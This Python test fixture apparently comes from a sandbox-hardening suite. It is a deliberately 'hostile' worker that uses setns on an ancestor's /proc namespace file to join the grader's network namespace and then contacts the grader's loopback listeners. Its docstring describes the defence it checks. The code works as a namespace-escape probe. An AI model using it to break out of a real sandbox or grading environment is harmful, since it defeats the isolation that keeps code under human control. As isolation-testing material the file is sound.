# Hostile: joins an ancestor's network namespace with setns(2) and connects to the TCP listeners on 127.0.0.1 that its ancestors hold open, sending one line.
"""Honest part: none (it raises, saying whether it got through).

Today's worker is in an empty network namespace, but as root it can join the grader's again:
``/proc/<pid>/ns/net`` of any ancestor, then ``setns``.  Only listening sockets held by its own
ancestors (the test's listener, on loopback) are contacted.
The defence: no capability to join another namespace (a user namespace without privileges over
the grader's, or an unprivileged uid), and the grader's processes not visible.
"""
import ctypes
import os
import socket

CLONE_NEWNET = 0x40000000


def _ancestors():
    pid = os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/stat", "rb") as handle:
                pid = int(handle.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        if pid <= 1:
            return
        yield pid


def _listening_inodes(pids):
    inodes = set()
    for pid in pids:
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.startswith("socket:["):
                    inodes.add(target[8:-1])
        except OSError:
            continue
    return inodes


ancestors = list(_ancestors())
own = os.readlink("/proc/self/ns/net")
libc = ctypes.CDLL(None, use_errno=True)
joined = None
for pid in ancestors:
    try:
        if os.readlink(f"/proc/{pid}/ns/net") == own:
            continue
        fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(fd, CLONE_NEWNET) == 0:
        joined = pid
        break
    os.close(fd)

inodes = _listening_inodes(ancestors)
reached = []
with open("/proc/self/net/tcp") as handle:
    rows = [line.split() for line in handle.read().splitlines()[1:]]
for row in rows:
    address, port = row[1].split(":")
    if row[3] == "0A" and address == "0100007F" and row[9] in inodes:  # LISTEN on 127.0.0.1
        try:
            with socket.create_connection(("127.0.0.1", int(port, 16)), timeout=2) as connection:
                connection.sendall(b"hostile: setns_grader_network got through\n")
            reached.append(int(port, 16))
        except OSError:
            pass
raise RuntimeError(f"hostile: joined the network namespace of {joined}; reached ports {reached}")
